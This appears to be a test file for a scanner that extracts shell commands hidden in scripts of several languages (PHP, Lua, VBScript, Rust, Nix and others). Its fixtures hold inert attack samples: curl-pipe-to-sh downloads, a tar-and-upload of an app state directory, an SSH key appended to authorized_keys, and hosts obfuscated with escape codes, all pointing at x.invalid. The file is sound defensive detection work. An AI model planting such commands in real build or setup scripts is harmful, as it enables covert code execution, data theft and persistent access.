/** Commands in scripts of languages with no translator (src/inspect/effects/embedded.ts). Text only: nothing here runs. */
import { describe, expect, it } from 'vitest';
import { embeddedCommands } from '../../src/inspect/effects/embedded.js';

const commands = (rel: string, text: string) => embeddedCommands(rel, text).map((c) => c.command);

describe('embedded commands', () => {
  it('reads PHP shell calls and backtick values, with concatenation, variables and octal escapes', () => {
    const php = '<?php\n$h = "x\\56invalid";\n$out = shell_exec("curl -s https://" . $h . "/i.sh | sh");\n$v = `uname -a`;\necho curl_exec($ch);\n';
    expect(commands('setup.php', php)).toEqual(['curl -s https://x.invalid/i.sh | sh', 'uname -a']);
  });

  it('leaves commands quoted in comments alone', () => {
    expect(commands('a.php', '<?php\n/** Old way: (`curl https://x.invalid | sh`) */\n// system("rm -rf ~")\n$x = 1;\n')).toEqual([]);
    expect(commands('a.lua', '-- os.execute("curl https://x.invalid | sh")\nprint(1)\n')).toEqual([]);
    expect(commands('a.rs', '// Command::new("sh").arg("-c").arg("curl x.invalid | sh")\nfn main() {}\n')).toEqual([]);
  });

  it('decodes Lua decimal escapes and binds locals, the environment and its fallbacks', () => {
    const lua = 'local home = os.getenv("HOME")\nlocal dir = os.getenv("STATE_DIR") or (home .. "/.app")\nlocal host = "\\120\\46\\105\\110\\118\\97\\108\\105\\100"\nos.execute("tar czf /tmp/a.tgz " .. dir .. " && curl -F f=@/tmp/a.tgz https://" .. host)\n';
    expect(commands('x.lua', lua)).toEqual(['tar czf /tmp/a.tgz ${STATE_DIR:-$HOME/.app} && curl -F f=@/tmp/a.tgz https://x.invalid']);
  });

  it('joins AppleScript pieces across continuation lines, quoted form of a value as one word', () => {
    const as = 'set d to "/tmp/out"\ndo shell script "mkdir -p " & quoted form of d & ¬\n  "; cd ~/Library && ls"\n';
    expect(commands('e.applescript', as)).toEqual(["mkdir -p '/tmp/out'; cd ~/Library && ls"]);
  });

  it('reads VBScript Run with Chr() pieces and doubled quotes', () => {
    const vbs = 'Set sh = CreateObject("WScript.Shell")\nu = "http://" & Chr(120) & ".invalid/a.exe"\nsh.Run "cmd /c curl -o ""%TEMP%\\a.exe"" " & u, 0, False\n';
    expect(commands('r.vbs', vbs)).toEqual(['cmd /c curl -o "%TEMP%\\a.exe" http://x.invalid/a.exe']);
  });

  it('reads a Rust build script: Command::new with its .arg chain, sh -c is its script, format! filled in', () => {
    const rs = 'use std::process::Command;\nfn main() {\n    let url = "https://x.invalid/w.sh";\n    Command::new("sh").arg("-c").arg(format!("curl -fsSL {} | sh", url)).status().unwrap();\n    Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();\n}\n';
    expect(commands('build.rs', rs)).toEqual(['curl -fsSL https://x.invalid/w.sh | sh', 'git rev-parse HEAD']);
  });

  it('reads Gradle commandLine lists and "…".execute(), and C# Process.Start', () => {
    const gradle = "exec {\n    commandLine 'git', 'describe', '--tags'\n}\ndef sha = \"git rev-parse HEAD\".execute().text\n";
    expect(commands('build.gradle', gradle)).toEqual(['git rev-parse HEAD', 'git describe --tags']);
    const cs = 'var host = "x.invalid";\nProcess.Start("bash", $"-c \\"curl -s https://{host}/p | sh\\"");\n';
    expect(commands('env.csx', cs)).toEqual(['curl -s https://x.invalid/p | sh']);
  });

  it("reads a Nix shellHook with its bound strings resolved and Nix's escapes undone", () => {
    const nix = "let\n  key = \"ssh-ed25519 AAAA k@x.invalid\";\n  extra = ''\n    echo \"${key}\" >> ~/.ssh/authorized_keys\n  '';\nin pkgs.mkShell {\n  shellHook = ''\n    ${extra}\n    export PATH=\"''${PWD}/bin:$PATH\"\n    ${pkgs.curl}/bin/curl -s https://x.invalid\n  '';\n}\n";
    const [hook] = commands('flake.nix', nix);
    expect(hook).toContain('echo "ssh-ed25519 AAAA k@x.invalid" >> ~/.ssh/authorized_keys');
    expect(hook).toContain('export PATH="${PWD}/bin:$PATH"');
    expect(hook).toContain('curl -s https://x.invalid');
  });

  it('finds nothing in a file of another language', () => {
    expect(commands('notes.txt', 'system("curl x.invalid | sh")')).toEqual([]);
  });
});
